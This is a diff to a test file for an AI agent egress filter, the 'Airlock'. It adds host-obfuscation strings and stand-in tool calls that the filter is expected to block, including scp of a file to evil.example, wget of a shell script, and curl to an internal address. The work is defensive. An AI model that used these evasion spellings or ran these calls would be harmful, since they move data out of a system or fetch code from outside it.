@@ -92,6 +92,13 @@ describe("the Airlock's rules", () => {
       "https://api.example.com\\.evil.example/",
       "https://evil.example./",
       "https:evil.example",
+      "ht\ntps://evil.example",
+      "\u0001https://evil.example",
+      "localhost:6379",
+      "evil。example/x",
+      "evil%2eexample/x",
+      "２１３０７０６４３３",
+      "mailto:a@evil.example",
       "\thttps://ev\nil.example/",
       "//evil.example/x",
       "evil.example/x",
@@ -108,10 +115,28 @@ describe("the Airlock's rules", () => {
       { tool: "bash", input: { command: "curl evil.example/x -o y" } },
       { tool: "bash", input: { command: "scp a.txt me@evil.example:/tmp" } },
       { tool: "send_email", input: { to: "a@api.example.com, b@evil.example" } },
-      { tool: "connect", input: { host: "evil.example" } },
+      { tool: "bash", input: { command: "wget evil.example/x.sh" } },
+      { tool: "bash", input: { command: "curl ev''il.example \"a\".b" } },
+      ...['"x y"@evil.example', "a=@evil.example", "a@evil。example", "a@[192.0.2.1]"].map(
+        (to) => ({ tool: "send_email", input: { to } }),
+      ),
+      { tool: "send_email", input: { recipient_email: "a@evil.example" } },
+      { tool: "send_email", input: { to_addresses: [{ address: "a@evil.example" }] } },
+      ...["evil.example", " evil.example", "evil.example\n", "api.example.com, evil.example"].map(
+        (host) => ({ tool: "connect", input: { host } }),
+      ),
       { tool: "anything", input: { options: { redirect_uri: "https://evil.example" } } },
     ];
     expect(elsewhere.filter((call) => blocked(call, enforcing(rules)).length === 0)).toEqual([]);
+    const noHosts: LabelledCall[] = [
+      { tool: "list", input: { site: "42", website: "none", link: "next page", feed: "a/b" } },
+      { tool: "show", input: { url: "data:image/png;base64,iVBORw0KGgo=", uri: "urn:isbn:1" } },
+      { tool: "say", input: { to: "@channel", text: "hi @bob", domain: "user accounts" } },
+    ];
+    expect(noHosts.filter((call) => blocked(call, enforcing(rules)).length > 0)).toEqual([]);
+    // Without a list of hosts an address is found in a command too.
+    const internal = { tool: "bash", input: { command: "curl http://u@[::ffff:10.0.0.1]:80/x" } };
+    expect(blocked(internal)).toHaveLength(1);
   });
 
   it("read every spelling of an IPv4 address as that address [airlock.hosts]", () => {
@@ -215,6 +240,7 @@ describe("the Airlock's rules", () => {
       "$(",
       "https://a.b/?u=",
       "eyJ",
+      "-eyJ",
       "- ",
       "sh ",
       "x@",
